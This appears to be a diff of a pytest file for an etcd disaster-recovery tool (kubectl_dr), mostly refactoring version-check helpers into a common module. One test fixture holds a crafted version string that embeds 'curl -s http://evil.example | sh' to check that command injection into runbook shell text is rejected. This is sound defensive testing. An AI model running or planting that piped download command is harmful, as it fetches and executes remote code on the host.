@@ -12,13 +12,13 @@ from pathlib import Path
 import pytest
 
 from kubectl_dr.errors import DrError
-from kubectl_dr.etcd.restore import job, nodescript
+from kubectl_dr.etcd.restore import common, job, nodescript
 from kubectl_dr.etcd.restore.runbook import runbook
 from kubectl_dr.etcd.restore.source import LocalSnapshot, local_snapshot, minor_of
 from kubectl_dr.etcd.restore.targets import Target, host_path_of
 from kubectl_dr.etcd.snapshot_file import verify_snapshot
 from kubectl_dr.etcd.topology import StaticMember
-from kubectl_dr.repo import Repository
+from kubectl_dr.repo import LocalRepository
 from kubectl_dr.runs import Run
 from kubectl_dr.ui.console import TerminalConsole
 from tests.unit.etcd_scratch import ScratchEtcd, etcd_available
@@ -85,7 +85,7 @@ def test_image_versions(image: str, version: str | None) -> None:
 
 
 def test_bump_needs_etcdctl_3_5_10() -> None:
-    assert job._version_tuple("3.5.9") < job.BUMP_SINCE <= job._version_tuple("3.5.10")
+    assert common.version_tuple("3.5.9") < job.BUMP_SINCE <= common.version_tuple("3.5.10")
     assert minor_of("3.5.16") == "3.5" and minor_of("v3.4.23") == "3.4" and minor_of(None) is None
 
 
@@ -104,17 +104,17 @@ def local(path: Path, version: str | None) -> LocalSnapshot:
 
 
 def test_snapshot_versions_must_match(snapshot_34: Path, tmp_path: Path) -> None:
-    found = local_snapshot(str(snapshot_34), Repository(tmp_path / "repo"), TerminalConsole())
+    found = local_snapshot(str(snapshot_34), LocalRepository(tmp_path / "repo"), TerminalConsole())
     # etcd keeps its cluster version in the database ("3.4.0", "3.5.0"): a plain file says where it is from.
     assert found.version == "3.4.0" and found.backup_id is None and found.runbook_dir == snapshot_34.parent
-    job._check_snapshot(found, "3.4.23")
+    common.check_snapshot(found, "3.4.23")
     with pytest.raises(DrError, match=re.escape("the snapshot is from etcd 3.4.0 but the cluster runs etcd 3.5.16")):
-        job._check_snapshot(found, "3.5.16")
+        common.check_snapshot(found, "3.5.16")
     with pytest.raises(DrError, match="does not say which etcd wrote it"):
-        job._check_snapshot(local(snapshot_34, None), "3.5.16")
+        common.check_snapshot(local(snapshot_34, None), "3.5.16")
     with pytest.raises(DrError, match=re.escape("the snapshot is from etcd 3.5.16 but the cluster runs etcd 3.4.23")):
-        job._check_snapshot(local(snapshot_34, "3.5.16"), "3.4.23")
-    job._check_snapshot(local(snapshot_34, "3.5.0"), "3.5.16")
+        common.check_snapshot(local(snapshot_34, "3.5.16"), "3.4.23")
+    common.check_snapshot(local(snapshot_34, "3.5.0"), "3.5.16")
 
 
 # ------------------------------------------------------------------------ the node script, run by busybox
@@ -205,7 +205,7 @@ def test_node_script_rolls_back_when_its_pod_restarted(tmp_path: Path) -> None:
 def test_a_recorded_version_is_a_version_or_ignored(snapshot_34: Path, tmp_path: Path) -> None:
     """The etcd version in a manifest is printed into the runbook's shell text: a crafted one (a newline and
     a command) is not taken; the snapshot's own cluster version is used instead."""
-    repo = Repository(tmp_path / "repo")
+    repo = LocalRepository(tmp_path / "repo")
     ids = {}
     for name, version in (("good", "v3.4.23"), ("evil", "3.4.23\ncurl -s http://evil.example | sh")):
         with repo.create("etcd-snapshot", {"member": name}, name) as writer:
@@ -226,7 +226,7 @@ def plan_for(version: str, data_dir: Path, snapshot: Path) -> job.Plan:
     target = Target(member=member, peer_urls=(peer,), data_dir=str(data_dir), data_dir_in_pod="/var/lib/etcd",
                     metrics_url="http://127.0.0.1:2381", readyz_url="https://10.0.0.1:6443/readyz",
                     initial_cluster=f"cp-1={peer}")
-    bump = job._version_tuple(version) >= job.BUMP_SINCE
+    bump = common.version_tuple(version) >= job.BUMP_SINCE
     return job.Plan(run=Run("etcd restore --from latest"), targets=[target], snapshot=local(snapshot, version),
                     image=member.image, tool_version=version, bump=bump, token="kubectl-dr-test-0000",
                     initial_cluster=f"cp-1={peer}", cluster_version=version, revision_before=None,
@@ -249,7 +249,7 @@ def test_runbook_restores_with_the_tool_of_the_etcd_version(snapshot_34: Path, t
     assert line.startswith(command), line
     assert ("--bump-revision 1000000000 --mark-compacted" in line) == version.startswith("3.5"), line
     assert ("etcdutl" in book) == version.startswith("3.5"), book
-    line = line.replace(f"{job.DR_DIR}/{p.run.id}/snapshot.db", str(snapshot_34))
+    line = line.replace(f"{common.DR_DIR}/{p.run.id}/snapshot.db", str(snapshot_34))
     done = subprocess.run(["sh", "-c", line], capture_output=True, text=True, timeout=60,
                           env={"PATH": f"{tools}:/usr/bin:/bin"})
     assert done.returncode == 0, done.stderr
